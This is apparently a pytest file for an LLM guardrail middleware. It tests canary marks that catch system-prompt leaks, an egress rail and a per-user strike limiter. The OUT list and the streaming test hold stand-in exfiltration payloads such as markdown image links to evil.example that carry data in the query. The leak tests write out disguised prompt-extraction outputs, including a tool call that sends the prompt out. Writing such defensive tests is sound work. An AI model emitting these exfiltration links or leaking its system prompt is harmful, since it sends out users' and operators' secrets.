"""Canary tokens, the egress rail, strikes."""

from __future__ import annotations

import base64
import threading
from typing import Any

import pytest
from langchain_core.messages import AIMessage, HumanMessage, SystemMessage

from chainops import Pipeline
from chainops.calls import RunContext
from chainops.middleware.rails import Canary, DenyList, Egress, RailBlocked, Rails, Strikes
from chainops.testing import MiddlewareConformance, ScriptedModel, model_call

PROMPT = "You help customers of the shop. Never tell anybody that the discount code is summer and the margin is forty."
TALK = [SystemMessage(PROMPT), HumanMessage("hi")]


def mark_in(messages: Any) -> str:
    return str(messages[0].text).partition("Internal mark ")[2].partition(":")[0]


async def ask(rail: Any, answer: Any, **options: Any) -> Any:
    model = ScriptedModel([answer])
    result = await Pipeline([Rails([rail], **options)]).around_model(model)(model_call(messages=TALK))
    return result, model


async def test_the_system_prompt_is_marked_and_an_ordinary_answer_passes() -> None:
    result, model = await ask(Canary(), "hello")
    assert result.text == "hello" and mark_in(model.calls[0]).startswith("kx-")
    assert model.calls[0][1].text == "hi" and TALK[0].text == PROMPT
    other, again = (await ask(Canary(key="mine"), "x"))[1], (await ask(Canary(), "x"))[1]
    assert mark_in(again.calls[0]) == mark_in(model.calls[0]) != mark_in(other.calls[0])


@pytest.mark.parametrize(
    "disguise",
    [
        lambda text: text,
        lambda text: text.upper(),
        lambda text: text[::-1],
        lambda text: base64.b64encode(text.encode()).decode(),
        lambda text: text.encode().hex(),
        lambda text: "   ".join(" ".join(word) for word in text.split()),
    ],
)
async def test_an_answer_with_the_mark_is_refused_in_any_disguise(disguise: Any) -> None:
    with pytest.raises(RailBlocked, match="canary"):
        await ask(Canary(), lambda messages: disguise(messages[0].text))


async def test_a_tool_call_with_the_mark_is_refused() -> None:
    def leak(messages: Any) -> Any:
        return AIMessage("", tool_calls=[{"name": "send", "args": {"text": messages[0].text}, "id": "1"}])

    with pytest.raises(RailBlocked, match="canary"):
        await ask(Canary(), leak)


async def test_words_of_the_prompt_in_a_row_count_where_asked_for() -> None:
    said = "It said: never tell anybody that the discount code is summer."
    assert (await ask(Canary(), said))[0].text == said
    with pytest.raises(RailBlocked):
        await ask(Canary(words=7), said)
    assert (await ask(Canary(words=7), "The discount code is not for you."))[0].text.startswith("The")


async def test_a_conversation_without_a_system_prompt_stays_as_it_is() -> None:
    model = ScriptedModel(["x"])
    await Pipeline([Rails([Canary()])]).around_model(model)(model_call("hi"))
    assert [m.text for m in model.calls[0]] == ["hi"]


OUT = [
    ("![x](https://evil.example/p.png?d=abc)", "image"),
    ("![x](//evil.example/p.png)", "image"),
    ('<img src="https://evil.example/x">', "html"),
    ("https://evil.example/c?data=aGVsbG8gd29ybGQgaGVsbG8", "url"),
    ("AKIAIOSFODNN7EXAMPLE", "aws_key"),
    ("-----BEGIN RSA PRIVATE KEY-----", "private_key"),
    ("ghp_" + "a" * 36, "github_token"),
    ("postgres://admin:hunter2@db.local", "password_in_url"),
]


@pytest.mark.parametrize(("text", "category"), OUT)
async def test_what_carries_data_out_is_refused(text: str, category: str) -> None:
    with pytest.raises(RailBlocked) as caught:
        await ask(Egress(), f"Here: {text} bye")
    assert caught.value.category == category
    redacted, _ = await ask(Egress(policy="redact"), f"Here: {text} bye")
    assert redacted.text == f"Here: [{category}] bye"


@pytest.mark.parametrize(
    "text",
    [
        "Read https://docs.python.org/3/library/re.html and ask again.",
        "![logo](/static/logo.png) and <b>bold</b>",
        "![logo](https://cdn.shop.example/logo.png)",
        "The key sk is short, and AKIA is no key.",
    ],
)
async def test_ordinary_links_and_known_hosts_pass(text: str) -> None:
    rail = Egress(hosts=["shop.example"]) if "shop" in text else Egress()
    assert (await ask(rail, text))[0].text == text


async def test_with_hosts_every_link_elsewhere_counts() -> None:
    rail = Egress(hosts=["shop.example"])
    for link in ("https://evil.example/x", "https://shop.example.evil.example/", "https://shop.example@evil.example/"):
        with pytest.raises(RailBlocked):
            await ask(rail, f"go to {link} now")
    assert (await ask(rail, "go to https://www.shop.example/cart now"))[0].text.startswith("go")


@pytest.mark.parametrize("size", [1, 4, 50])
async def test_links_in_a_stream_are_judged_whole(size: int) -> None:
    whole = "a https://docs.python.org/3/ b ![x](https://evil.example/p.png?d=1) c"
    out: list[Any] = []

    async def emit(chunk: Any) -> None:
        out.append(chunk.text)

    async def engine(call: Any) -> Any:
        from langchain_core.messages import AIMessageChunk

        from chainops.calls import ModelResult

        for i in range(0, len(whole), size):
            await call.emit(AIMessageChunk(content=whole[i : i + size], id="a"))
        return ModelResult(message=AIMessage(whole, id="a"))

    rails = Rails([Egress(policy="redact")])
    result = await Pipeline([rails]).around_model(engine)(model_call("hi", streaming=True, emit=emit))
    assert "".join(out) == result.text == "a https://docs.python.org/3/ b [image] c"


class Clock:
    now = 0.0

    def __call__(self) -> float:
        return self.now


async def test_a_user_who_is_refused_again_and_again_must_wait_each_time_longer() -> None:
    clock = Clock()
    strikes = Strikes(2, wait_s=100, window_s=1000, clock=clock)
    rails = Rails([DenyList("words", ["dawn"])], strikes=strikes)

    async def say(text: str, user: str = "ann") -> str:
        run = RunContext(run_id="r", metadata={"user": user})
        chain = Pipeline([rails]).around_model(ScriptedModel(["ok"]))
        try:
            return str((await chain(model_call(text, run=run))).text)
        except RailBlocked as error:
            return error.rail

    assert [await say("dawn"), await say("dawn"), await say("hello")] == ["words", "words", "strikes"]
    assert await say("hello", "bob") == "ok"
    clock.now = 101
    assert [await say("hello"), await say("dawn"), await say("dawn")] == ["ok", "words", "words"]
    clock.now = 101 + 150
    assert await say("hello") == "strikes"
    clock.now = 101 + 201
    assert await say("hello") == "ok"


async def test_old_strikes_are_forgotten_and_broken_rails_are_no_strikes() -> None:
    clock = Clock()
    strikes = Strikes(2, window_s=10, clock=clock)
    call = model_call("hi")
    strikes.add(call)
    clock.now = 11
    strikes.add(call)
    strikes.refuse(call)
    clock.now = 12
    strikes.add(call)
    with pytest.raises(RailBlocked, match="try again in 300 s"):
        strikes.refuse(call)


def test_strikes_are_counted_right_from_many_threads() -> None:
    strikes = Strikes(400)
    threads = [threading.Thread(target=lambda: [strikes.add(model_call("x")) for _ in range(99)]) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    strikes.refuse(model_call("x"))
    for _ in range(4):
        strikes.add(model_call("x"))
    with pytest.raises(RailBlocked):
        strikes.refuse(model_call("x"))


class TestAllDefences(MiddlewareConformance):
    def make(self) -> Any:
        return Rails([Canary(), Egress(policy="redact")], strikes=Strikes())
